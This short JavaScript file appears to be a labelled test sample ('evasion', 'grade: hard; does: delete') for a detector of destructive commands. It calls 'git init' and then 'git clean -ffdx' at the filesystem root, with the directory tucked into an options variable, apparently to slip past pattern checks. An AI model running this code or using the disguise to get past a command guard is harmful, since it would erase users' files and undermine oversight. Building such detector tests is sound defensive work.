// evasion: git clean -ffdx started with an argument list and cwd '/' held in an options variable
// grade: hard; does: delete
'use strict';
const cp = require('child_process');
const options = { cwd: '/', stdio: 'ignore' };
cp.execFileSync('git', ['init', '-q'], options);
cp.execFileSync('git', ['clean', '-ffdx'], options);
